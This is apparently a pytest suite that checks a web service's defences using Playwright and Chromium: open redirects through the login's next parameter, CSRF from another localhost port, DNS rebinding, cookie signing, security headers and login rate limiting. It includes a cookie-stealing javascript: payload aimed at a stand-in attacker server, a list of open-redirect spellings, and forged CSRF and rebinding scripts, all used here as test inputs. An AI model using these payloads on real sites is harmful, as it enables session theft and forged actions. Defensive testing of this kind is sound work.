"""The browser's defences against a real `stagetune serve` with tokens: the login's `next`,
CSRF from a page on another port of 127.0.0.1 (served here by a tiny http.server), the
session cookie, the security headers, local /docs and /redoc, and the login's rate limit;
and against one without tokens, on loopback: DNS rebinding. Browser tests drive Debian's
headless Chromium through Playwright."""

from __future__ import annotations

import asyncio
import base64
import json
import re
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Response
from playwright.sync_api import TimeoutError as PlaywrightTimeout

from stagetune.service.app import create_app
from stagetune.service.auth import SESSION_COOKIE, Sessions
from stagetune.service.client import ApiError, Client
from stagetune.service.settings import Settings
from stagetune.service.web.pages import safe_next
from tests.conftest import CHROMIUM, CHROMIUM_ARGS
from tests.service.server import Server, free_port
from tests.service.test_api import long_study

TOKEN = "alpha-token-0123"
MAX_FAILURES, WINDOW_S = 5, 4
PROXY = "127.0.0.2"  # a loopback address of its own: the one proxy the server believes
TARGET = "csrf-target"  # a running study that the attacker tries to cancel
FORGED = "csrf-made"  # the study the attacker tries to create


# -- fixtures: the service, an attacker on another port, a browser ------------------------

@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory, ray_local: str) -> Iterator[Server]:
    tmp: Path = tmp_path_factory.mktemp("security")
    with pytest.MonkeyPatch.context() as env:
        env.setenv("STAGETUNE_LOGIN_MAX_FAILURES", str(MAX_FAILURES))
        env.setenv("STAGETUNE_LOGIN_WINDOW_S", str(WINDOW_S))
        env.setenv("STAGETUNE_FORWARDED_ALLOW_IPS", PROXY)
        server = Server(f"sqlite:///{tmp / 'store.db'}", tmp / "data", tokens=f"{TOKEN}, beta",
                        ray_address=ray_local).start()
    try:
        yield server
    finally:
        server.stop()


class Attacker:
    """Pages on another port of 127.0.0.1, and the requests that reached it."""

    def __init__(self) -> None:
        self.pages: dict[str, str] = {}
        self.seen: list[str] = []
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # http.server's name
                attacker.seen.append(self.path)
                body = attacker.pages.get(self.path.split("?")[0], "<p>nothing here</p>").encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: Any) -> None:
                pass

        self.http = ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
        self.url = f"http://127.0.0.1:{self.http.server_address[1]}"
        threading.Thread(target=self.http.serve_forever, daemon=True).start()


@pytest.fixture(scope="module")
def attacker() -> Iterator[Attacker]:
    site = Attacker()
    yield site
    site.http.shutdown()


def log_in(context: BrowserContext, server: Server, next: str = "/", kept: str = "/") -> Page:
    """Log in through the login page as a person would, after checking that the page kept
    `kept` of `next`; returns the page it lands on."""
    page = context.new_page()
    page.goto(f"{server.url}/login?next={next}")
    assert page.get_attribute("#login", "data-next") == kept
    page.fill("input[name=token]", TOKEN)
    with page.expect_response(f"{server.url}/login") as answer:
        page.click("button[type=submit]")
    assert answer.value.status == 204
    page.wait_for_load_state()
    return page


# -- 1, 2: the login's `next` ------------------------------------------------------------

@pytest.mark.parametrize("target", [
    "javascript:alert(1)", "JavaScript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "http://elsewhere.example/", "https://elsewhere.example/x", "//elsewhere.example/",
    "/\\elsewhere.example/", "\\\\elsewhere.example", "/\t/elsewhere.example", "/\n/x",
    " /studies", "/studies\x00", "studies/x", "", "///elsewhere.example", "/\u200b/x",
    "/.//elsewhere.example/phish", "/..//elsewhere.example", "/a/..//elsewhere.example",
    "/%2e//elsewhere.example", "/.%2E//elsewhere.example", "/a/%2e%2e//elsewhere.example"])
def test_a_next_that_is_not_a_path_here_becomes_home(target: str) -> None:
    assert safe_next(target) == "/"


@pytest.mark.parametrize("target", ["/", "/studies/a-b_1", "/studies/x/trials/3?tab=curves#top",
                                    "/%2F%2Felsewhere.example", "/./studies", "/studies/..",
                                    "/studies?next=//elsewhere.example"])
def test_a_path_here_is_kept_as_next(target: str) -> None:
    assert safe_next(target) == target


@pytest.mark.slow
def test_a_javascript_next_does_not_run_after_login(server: Server, browser: Browser,
                                                     attacker: Attacker) -> None:
    script = f"javascript:document.title='pwned';fetch('{attacker.url}/steal?'+document.cookie)"
    context = browser.new_context()
    try:
        page = log_in(context, server, next=script)
        page.wait_for_url(f"{server.url}/")
        assert page.title().endswith("stagetune") and "pwned" not in page.title()
        time.sleep(0.5)
        assert not [p for p in attacker.seen if p.startswith("/steal")], attacker.seen
    finally:
        context.close()


@pytest.mark.slow
@pytest.mark.parametrize("shape", ["{a}/landing", "//{host}/landing", "/\\{host}/landing",
                                   "/%09/{host}/landing"])
def test_an_absolute_next_is_not_an_open_redirect(server: Server, browser: Browser,
                                                  attacker: Attacker, shape: str) -> None:
    host = attacker.url.removeprefix("http://")
    target = shape.format(a=attacker.url, host=host)
    context = browser.new_context()
    try:
        before = len(attacker.seen)
        page = log_in(context, server, next=target)
        page.wait_for_url(f"{server.url}/")
        assert page.url == f"{server.url}/"
        assert attacker.seen[before:] == []
    finally:
        context.close()


# Well-known open-redirect spellings (PayloadsAllTheThings' and OWASP's lists), as an
# attacker's link carries them in `next`; {h} is the attacker's host:port. The server
# decodes the query once, the page's script resolves what is left as the browser does.
OPEN_REDIRECTS = [
    "//{h}/x", "///{h}/x", "////{h}/x", "/\\{h}/x", "\\/{h}/x", "\\\\{h}/x", "/\\/{h}/x",
    "/.//{h}/x", "/..//{h}/x", "/a/..//{h}/x", "/././/{h}/x", "/%2e//{h}/x", "/.%2e//{h}/x",
    "/%2e%2e//{h}/x", "/%252e//{h}/x", "/%2f%2f{h}/x", "/%2F%2F{h}/x", "%2f%2f{h}/x",
    "/%2f/{h}/x", "%2f%2e%2f%2f{h}/x", "/%5c{h}/x", "/%5C%5C{h}/x", "%5c%5c{h}/x",
    "/%5c/{h}/x", "/%09/{h}/x", "/%0a/{h}/x", "/%0d/{h}/x", "%09//{h}/x", "%20//{h}/x",
    "/%00/{h}/x", "http://{h}/x", "HtTp://{h}/x", "https:{h}/x", "http:{h}/x",
    "http:/{h}/x", "http:\\\\{h}/x", "//{h}%2f..", "//{h}%00.example", "/\u3031{h}/x",
    "/\uff0f\uff0f{h}/x", "javascript://%0alocation='http://{h}/x'", "%2f%252f{h}/x"]


@pytest.mark.slow
def test_no_open_redirect_spelling_leaves_the_origin_after_login(
        server: Server, browser: Browser, attacker: Attacker) -> None:
    """Each payload as a person following the link would: open the login, log in, land."""
    host = attacker.url.removeprefix("http://")
    own = urlsplit(server.url)
    context = browser.new_context()
    page = context.new_page()
    left: dict[str, str] = {}
    try:
        before = len(attacker.seen)
        for payload in OPEN_REDIRECTS:
            context.clear_cookies()  # logged out: a session's POST /login needs its CSRF token
            page.goto(f"{server.url}/login?next={payload.format(h=host)}")
            page.fill("input[name=token]", TOKEN)
            page.click("button[type=submit]")
            try:
                page.wait_for_url(lambda url: not url.startswith(f"{server.url}/login"),
                                  wait_until="commit", timeout=10_000)
            except PlaywrightTimeout:
                left[payload] = f"still at {page.url}"
                continue
            landed = urlsplit(page.url)
            if (landed.scheme, landed.netloc) != (own.scheme, own.netloc):
                left[payload] = page.url
        assert left == {} and attacker.seen[before:] == [], (left, attacker.seen[before:])
    finally:
        context.close()


@pytest.mark.slow
def test_a_path_next_is_followed_after_login(server: Server, browser: Browser) -> None:
    redirect = httpx.get(f"{server.url}/studies/nope")
    assert redirect.status_code == 303 and redirect.headers["location"] == "/login?next=/studies/nope"
    context = browser.new_context()
    try:
        page = log_in(context, server, next="/studies/nope", kept="/studies/nope")
        page.wait_for_url(f"{server.url}/studies/nope")
        assert "nope" in page.inner_text("main")
    finally:
        context.close()


# -- 3: CSRF from another port of the same host --------------------------------------------

def attack_pages(service: str, spec: dict[str, Any]) -> dict[str, str]:
    """A page that posts with fetch (no-cors, the cookie included; a Blob body has no
    Content-Type, which the API reads as JSON), and one that auto-submits a form. The
    page's read of /api/studies shows whether the browser sent the session along."""
    body = json.dumps(json.dumps(spec))
    fetches = f"""<script>
      const opts = {{method: "POST", credentials: "include", mode: "no-cors"}};
      Promise.all([fetch("{service}/api/studies", {{credentials: "include", mode: "no-cors"}}),
                   fetch("{service}/api/studies/{TARGET}/cancel", opts),
                   fetch("{service}/api/studies", {{...opts, body: new Blob([{body}])}})])
        .then(() => {{ document.title = "sent"; }});
    </script>"""
    form = f"""<form method="post" action="{service}/api/studies/{TARGET}/cancel"></form>
      <script>document.forms[0].submit()</script>"""
    return {"/fetch.html": fetches, "/form.html": form}


@pytest.mark.slow
def test_a_page_on_another_port_cannot_write_with_the_session(
        server: Server, browser: Browser, attacker: Attacker) -> None:
    with Client(server.url, token=TOKEN) as api:
        api.submit(long_study(TARGET, trials=2, epochs=40))
        forged = long_study(FORGED, trials=1, epochs=1)
        attacker.pages.update(attack_pages(server.url, forged))
        context = browser.new_context()
        writes: list[tuple[str, int]] = []
        reads: list[int] = []

        def record(response: Response) -> None:
            request = response.request
            if request.url.startswith(f"{server.url}/api/"):
                if request.method == "POST":
                    writes.append((request.url, response.status))
                else:
                    reads.append(response.status)

        context.on("response", record)
        try:
            log_in(context, server)
            page = context.new_page()
            page.goto(f"{attacker.url}/fetch.html")
            page.wait_for_function("document.title === 'sent'")
            page.goto(f"{attacker.url}/form.html")
            page.wait_for_url(f"{server.url}/api/studies/{TARGET}/cancel")
            deadline = time.monotonic() + 10
            while len(writes) < 3 and time.monotonic() < deadline:
                page.wait_for_timeout(100)
            assert len(writes) == 3, writes
            # the browser sent the session from that page (it is the same site: SameSite=Strict
            # lets it through, so the read succeeded) ...
            assert reads == [200], reads
            # ... and the service refused every write
            assert [status for _, status in writes] == [403, 403, 403], writes
            assert "another origin" in page.inner_text("body")

            assert api.study(TARGET).status not in ("cancelling", "cancelled")
            with pytest.raises(ApiError) as missing:
                api.study(FORGED)
            assert missing.value.status == 404
            assert api.studies().total == 1

            # the service's own page can write, with the session's CSRF token and only so
            own = context.new_page()
            own.goto(f"{server.url}/")
            post = """async (token) => (await fetch("/api/studies/nope/cancel",
                {method: "POST", headers: token ? {"X-CSRF-Token": token} : {}})).status"""
            token = own.get_attribute("meta[name=csrf-token]", "content")
            assert token
            assert own.evaluate(post, "") == 403
            assert own.evaluate(post, "not-" + token) == 403
            assert own.evaluate(post, token) == 404  # past the guard: there is no such study
        finally:
            context.close()
            api.cancel(TARGET)


def test_scripts_with_a_bearer_token_need_no_csrf_token(server: Server) -> None:
    bearer = {"Authorization": f"Bearer {TOKEN}"}
    cancel = httpx.post(f"{server.url}/api/studies/nope/cancel", headers=bearer)
    assert cancel.status_code == 404
    assert httpx.post(f"{server.url}/api/studies", headers=bearer, json={}).status_code == 422
    # a session without its token is refused even when the Origin is the service's own
    login = httpx.post(f"{server.url}/login", json={"token": TOKEN})
    own = {"Origin": server.url}
    with httpx.Client(base_url=server.url, cookies=login.cookies) as browser_like:
        refused = browser_like.post("/api/studies/nope/cancel", headers=own)
        assert refused.status_code == 403 and "X-CSRF-Token" in refused.json()["detail"]
        page = browser_like.get("/").text
        token = re.search(r'name="csrf-token" content="([^"]+)"', page)
        assert token
        allowed = browser_like.post("/api/studies/nope/cancel",
                                    headers={**own, "X-CSRF-Token": token.group(1)})
        assert allowed.status_code == 404


# -- DNS rebinding: a page whose own name points at a loopback service without tokens --------

@pytest.mark.slow
def test_a_rebound_host_name_is_refused_and_loopback_names_are_served(
        open_server: Server) -> None:
    port = open_server.port
    rebound = {"Host": f"evil.test:{port}", "Origin": f"http://evil.test:{port}"}
    with httpx.Client(base_url=open_server.url) as http:
        for method, path, body in (("POST", "/api/studies", long_study("rebound", 1, 1)),
                                   ("POST", "/api/studies/rebound/cancel", None),
                                   ("GET", "/api/studies", None), ("GET", "/", None)):
            refused = http.request(method, path, headers=rebound, json=body)
            assert refused.status_code == 400, (path, refused.text)
            detail = refused.json()["detail"]
            assert "evil.test" in detail and "STAGETUNE_ALLOWED_HOSTS" in detail, detail
            assert refused.headers["x-frame-options"] == "DENY"
        assert http.get("/api/studies").json()["total"] == 0  # nothing was submitted
        # a probe names the container by whatever address it sees
        assert http.get("/healthz", headers={"Host": f"10.1.2.3:{port}"}).status_code == 200
        for name in ("127.0.0.1", "localhost", "LOCALHOST", "[::1]"):
            own = {"Host": f"{name}:{port}", "Origin": f"http://{name}:{port}"}
            assert http.get("/api/studies", headers=own).status_code == 200, name
            # past both guards: the empty spec is what is wrong
            assert http.post("/api/studies", headers=own, json={}).status_code == 422, name
        # an allowed name on another port is another origin
        other = {"Host": f"127.0.0.1:{port}", "Origin": "http://localhost:1"}
        assert http.post("/api/studies", headers=other, json={}).status_code == 403


@pytest.mark.slow
def test_a_browser_on_a_rebound_name_gets_the_refusal(open_server: Server,
                                                      browser: Browser) -> None:
    """Chromium resolves evil.test to 127.0.0.1, as the attacker's DNS would after the
    page has loaded; the pages of the service's own names still work."""
    rebinding = browser.browser_type.launch(
        executable_path=CHROMIUM, args=[*CHROMIUM_ARGS, "--host-resolver-rules=MAP evil.test 127.0.0.1"])
    try:
        page = rebinding.new_page()
        answer = page.goto(f"http://evil.test:{open_server.port}/")
        assert answer is not None and answer.status == 400
        assert "STAGETUNE_ALLOWED_HOSTS" in page.inner_text("body")
        for name in ("127.0.0.1", "localhost"):
            answer = page.goto(f"http://{name}:{open_server.port}/")
            assert answer is not None and answer.status == 200, name
            assert page.title().endswith("stagetune")
    finally:
        rebinding.close()


@pytest.mark.slow
def test_a_rebinding_page_can_neither_submit_nor_cancel(open_server: Server,
                                                        browser: Browser) -> None:
    """A script of a page of evil.test:PORT, once that name resolves to 127.0.0.1: its
    requests reach the service from the page's own origin, with Host and Origin
    evil.test:PORT. Each is refused with the 400; the study it aimed at runs on.
    The script runs in the document Chromium loaded from evil.test:PORT after the switch
    (the service's refusal): a page still loaded from the attacker's public address would
    meet Chromium's own Private Network Access block first, which other browsers lack."""
    evil = f"http://evil.test:{open_server.port}"
    target, forged = "rebind-target", "rebind-made"
    with Client(open_server.url) as api:
        api.submit(long_study(target, trials=1, epochs=40))
        rebinding = browser.browser_type.launch(
            executable_path=CHROMIUM,
            args=[*CHROMIUM_ARGS, "--host-resolver-rules=MAP evil.test 127.0.0.1"])
        try:
            page = rebinding.new_page()
            page.goto(f"{evil}/")
            answers = page.evaluate("""async ([spec, target]) => {
                const send = async (method, path, body) => {
                    const answer = await fetch(path, {method, body,
                        headers: {"Content-Type": "application/json"}});
                    return [answer.status, await answer.text()]; };
                return [await send("POST", "/api/studies", JSON.stringify(spec)),
                        await send("POST", `/api/studies/${target}/cancel`),
                        await send("DELETE", `/api/studies/${target}`),
                        await send("GET", "/api/studies")]; }""",
                                    [long_study(forged, 1, 1), target])
        finally:
            rebinding.close()
        assert [status for status, _ in answers] == [400] * 4, answers
        assert all("STAGETUNE_ALLOWED_HOSTS" in text and target not in text
                   for _, text in answers), answers
        try:
            assert api.study(target).status in ("pending", "running")
            with pytest.raises(ApiError) as missing:
                api.study(forged)
            assert missing.value.status == 404
        finally:
            api.cancel(target)


def test_allowed_hosts_default_to_loopback_names_on_loopback() -> None:
    assert Settings(host="127.0.0.1").host_names == ["localhost", "127.0.0.1", "[::1]"]
    assert Settings(host="::1").host_names == ["localhost", "127.0.0.1", "[::1]"]
    # behind a proxy, the name browsers use (STAGETUNE_PUBLIC_ORIGIN) is one of them
    assert Settings(host="127.0.0.1", public_origin="https://tune.example:8443").host_names \
        == ["localhost", "127.0.0.1", "[::1]", "tune.example"]
    assert Settings(host="127.0.0.1", allowed_hosts="tune.example").host_names == ["tune.example"]
    assert Settings(host="0.0.0.0").host_names == ["*"]  # reachable from others: any, with a warning


@pytest.mark.parametrize(("settings", "host", "origin", "status"), [
    # a public origin: writes only from it, not from whatever Host the request names
    ({"public_origin": "https://tune.example"}, "127.0.0.1:8000", "http://127.0.0.1:8000", 403),
    ({"public_origin": "https://tune.example"}, "tune.example", "http://tune.example", 403),
    ({"public_origin": "https://tune.example"}, "127.0.0.1:8000", "https://tune.example", 204),
    ({"public_origin": "https://tune.example"}, "evil.test", "http://evil.test", 400),
    # allowed hosts: a write from a page of an allowed name, to that same name and port
    ({"allowed_hosts": "a.test,b.test"}, "a.test:8000", "http://a.test:8000", 204),
    ({"allowed_hosts": "a.test,b.test"}, "a.test:8000", "http://b.test:8000", 403),
    ({"allowed_hosts": "a.test,b.test"}, "a.test:8000", "http://a.test:9000", 403),
    ({"allowed_hosts": "a.test,b.test"}, "evil.test:8000", "http://evil.test:8000", 400),
    ({}, "evil.test:8000", "http://evil.test:8000", 400),  # the loopback default
    ({}, "localhost:8000", "http://evil.test:8000", 403),
])
def test_the_origin_check_follows_the_settings_never_the_request_host(
        settings: dict[str, str], host: str, origin: str, status: int) -> None:
    """POST /login of a service without tokens answers 204 once past the guards: 400 is
    the host guard's refusal, 403 the origin check's."""
    async def log_in() -> httpx.Response:  # the app without its lifespan: no store
        app = create_app(Settings(host="127.0.0.1", **settings))  # type: ignore[arg-type]
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app),
                                     base_url=f"http://{host}") as http:
            return await http.post("/login", json={"token": "x"}, headers={"Origin": origin})

    with ThreadPoolExecutor(1) as thread:  # Playwright's loop may be running on this one
        answer = thread.submit(asyncio.run, log_in()).result()
    assert answer.status_code == status, answer.text


# -- 4: the session cookie ------------------------------------------------------------------

def cookie_attributes(header: str) -> dict[str, str]:
    parts = [p.strip() for p in header.split(";")]
    return {p.partition("=")[0].lower(): p.partition("=")[2] for p in parts[1:]}


def test_the_session_cookie_is_signed_expiring_and_not_the_token(server: Server) -> None:
    login = httpx.post(f"{server.url}/login", json={"token": TOKEN})
    assert login.status_code == 204
    header = login.headers["set-cookie"]
    name, _, value = header.split(";")[0].partition("=")
    assert name == SESSION_COOKIE
    payload = base64.urlsafe_b64decode(value.split(".")[0] + "==").decode()
    assert TOKEN not in value and TOKEN not in payload, payload
    attributes = cookie_attributes(header)
    assert "httponly" in attributes and attributes["samesite"].lower() == "strict"
    assert attributes["max-age"] == str(12 * 3600) and "secure" not in attributes  # plain http

    with httpx.Client(base_url=server.url) as http:
        def status(cookie: str) -> int:
            return http.get("/api/studies", headers={"Cookie": cookie}).status_code

        assert status(f"{SESSION_COOKIE}={value}") == 200
        forged = value[:-2] + ("AA" if not value.endswith("AA") else "BB")
        assert status(f"{SESSION_COOKIE}={forged}") == 401
        assert status(f"stagetune_token={TOKEN}") == 401  # the old cookie: the raw token

    # over TLS (here: the proxy in front of the service says so), the cookie is Secure;
    # the same header from an address that is not a named proxy is not believed
    https = {"X-Forwarded-Proto": "https"}
    with httpx.Client(transport=httpx.HTTPTransport(local_address=PROXY)) as proxy:
        tls = proxy.post(f"{server.url}/login", json={"token": TOKEN}, headers=https)
    assert "secure" in cookie_attributes(tls.headers["set-cookie"])
    claimed = httpx.post(f"{server.url}/login", json={"token": TOKEN}, headers=https)
    assert "secure" not in cookie_attributes(claimed.headers["set-cookie"])


def test_secure_cookies_setting_and_sessions_that_end() -> None:
    async def log_in_secure() -> httpx.Response:  # the app without its lifespan: no store
        app = create_app(Settings(api_tokens="a,b", secure_cookies=True))
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app),
                                     base_url="http://testserver") as http:
            return await http.post("/login", json={"token": "a"})

    with ThreadPoolExecutor(1) as thread:  # Playwright's loop may be running on this one
        login = thread.submit(asyncio.run, log_in_secure()).result()
    assert login.status_code == 204 and "secure" in cookie_attributes(login.headers["set-cookie"])

    both = Sessions(frozenset({"a", "b"}), "secret", max_age_s=3600)
    cookie_a, cookie_b = both.issue("a"), both.issue("b")
    assert both.read(cookie_a) and both.read(cookie_b)
    revoked = Sessions(frozenset({"b"}), "secret", max_age_s=3600)  # 'a' taken out
    assert revoked.read(cookie_a) is None and revoked.read(cookie_b) is not None
    assert Sessions(frozenset({"a"}), "another secret", 3600).read(cookie_a) is None
    short = Sessions(frozenset({"a"}), "secret", max_age_s=1)
    cookie = short.issue("a")
    assert short.read(cookie) is not None
    time.sleep(2.2)
    assert short.read(cookie) is None  # expired


# -- 6, 7: headers, and /docs and /redoc from local files ----------------------------------

def test_every_response_carries_the_security_headers(server: Server) -> None:
    bearer = {"Authorization": f"Bearer {TOKEN}"}
    with httpx.Client(base_url=server.url, headers=bearer) as http:
        for path in ("/login", "/", "/studies/nope", "/docs", "/redoc", "/static/dashboard.js",
                     "/api/studies", "/healthz", "/openapi.json"):
            headers = http.get(path).headers
            assert headers.get("x-frame-options") == "DENY", path
            assert headers.get("x-content-type-options") == "nosniff", path
            assert headers.get("referrer-policy") == "same-origin", path
            policy = dict(d.strip().partition(" ")[::2]
                          for d in headers.get("content-security-policy", "").split(";"))
            assert policy.get("default-src") == "'self'", (path, policy)
            assert policy.get("frame-ancestors") == "'none'" and policy.get("base-uri") == "'none'"
            # no inline script anywhere; eval only where plotly's WebGL figures need it
            figures = path in ("/", "/studies/nope")
            assert policy["script-src"] == ("'self' 'unsafe-eval'" if figures else "'self'"), path
        # a refusal carries them too; the Referer counts where there is no Origin
        for sender in ({"Origin": "http://127.0.0.1:1"}, {"Origin": "null"},
                       {"Referer": f"http://localhost:{server.port}/"}):
            refused = http.post("/api/studies", headers=sender, json={})
            assert refused.status_code == 403, sender
            assert refused.headers["x-frame-options"] == "DENY"
        own = http.post("/api/studies", headers={"Referer": f"{server.url}/docs"}, json={})
        assert own.status_code == 422  # past the guard: the spec is what is wrong


@pytest.mark.slow  # it reads TARGET, which the slow CSRF test above submits
def test_the_report_served_by_the_api_runs_sandboxed(server: Server) -> None:
    with httpx.Client(base_url=server.url, headers={"Authorization": f"Bearer {TOKEN}"},
                      timeout=60) as http:
        report = http.get(f"/api/studies/{TARGET}/report.html")
    assert report.status_code == 200 and "<script>" in report.text
    policy = report.headers["content-security-policy"]
    assert "sandbox allow-scripts" in policy and "default-src 'none'" in policy
    assert "connect-src" not in policy  # default-src 'none': it reaches nothing


@pytest.mark.slow
@pytest.mark.parametrize(("path", "drawn"), [("/docs", ".swagger-ui .info .title"),
                                             ("/redoc", "redoc h1")])
def test_docs_and_redoc_load_nothing_from_another_host(server: Server, browser: Browser,
                                                       path: str, drawn: str) -> None:
    html = httpx.get(server.url + path).text
    assert not re.search(r"https?://", html), html
    references = re.findall(r'(?:src|href|spec-url|data-openapi)="([^"]*)"', html)
    assert references and all(r.startswith("/") for r in references), references
    page = browser.new_page()
    requested: list[str] = []
    errors: list[str] = []
    page.on("request", lambda r: requested.append(r.url))
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    page.goto(server.url + path)
    page.wait_for_selector(drawn, timeout=30_000)
    assert "stagetune" in page.inner_text(drawn)  # drawn from /openapi.json
    outside = [u for u in requested if not u.startswith((server.url + "/", "data:", "blob:"))]
    assert outside == [] and errors == [], (outside, errors)
    page.close()


@pytest.mark.slow
def test_the_pages_draw_under_their_policy(server: Server, browser: Browser) -> None:
    context = browser.new_context()
    try:
        errors: list[str] = []
        context.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
        page = log_in(context, server)
        page.wait_for_function("() => Number(document.querySelector('table[data-live]')"
                               ".dataset.refreshed || 0) > 0", timeout=15_000)
        assert page.locator(f"tr[data-id='{TARGET}']").count() == 1
        page.goto(f"{server.url}/studies/{TARGET}")
        page.wait_for_function("() => [...document.querySelectorAll('.plot')]"
                               ".every(d => d.dataset.rendered === 'true')", timeout=60_000)
        kinds = page.eval_on_selector_all(".plot", "ds => ds.map(d => d.dataset.kind)")
        assert "coarse_parallel" in kinds, kinds
        assert errors == []
    finally:
        context.close()


# -- 5: failed logins are limited (last: they lock their clients out for a while) ----------

def test_failed_logins_get_429_with_retry_after(server: Server) -> None:
    # a loopback address of its own: the test below locks out 127.0.0.1
    guesser = httpx.HTTPTransport(local_address="127.0.0.3")
    with httpx.Client(base_url=server.url, transport=guesser) as http:
        started = time.monotonic()
        statuses = [http.post("/login", json={"token": f"guess-{i}"}).status_code
                    for i in range(MAX_FAILURES)]
        assert statuses == [401] * MAX_FAILURES
        limited = http.post("/login", json={"token": "guess-again"})
        assert limited.status_code == 429, limited.text
        wait = int(limited.headers["retry-after"])
        assert 1 <= wait <= WINDOW_S
        assert time.monotonic() - started < WINDOW_S  # the failures above fit in one window
        # while limited, even the right token is not tried: guessing gains nothing
        assert http.post("/login", json={"token": TOKEN}).status_code == 429
        time.sleep(wait + 0.2)
        assert http.post("/login", json={"token": TOKEN}).status_code == 204


@pytest.mark.slow
def test_fresh_forwarded_for_headers_do_not_escape_the_limit(server: Server) -> None:
    """The limit counts by the peer's address; X-Forwarded-For counts only from the proxy
    named in STAGETUNE_FORWARDED_ALLOW_IPS (uvicorn by itself believes 127.0.0.1)."""
    with httpx.Client(base_url=server.url) as http:
        statuses = [http.post("/login", json={"token": f"guess-{i}"},
                              headers={"X-Forwarded-For": f"198.51.100.{i}"}).status_code
                    for i in range(MAX_FAILURES + 5)]
    assert statuses == [401] * MAX_FAILURES + [429] * 5, statuses
    # the proxy speaks for its clients: this one has not failed yet, the right token works
    with httpx.Client(base_url=server.url,
                      transport=httpx.HTTPTransport(local_address=PROXY)) as proxy:
        forwarded = {"X-Forwarded-For": "203.0.113.9"}
        assert proxy.post("/login", json={"token": "guess"}, headers=forwarded).status_code == 401
        assert proxy.post("/login", json={"token": TOKEN}, headers=forwarded).status_code == 204
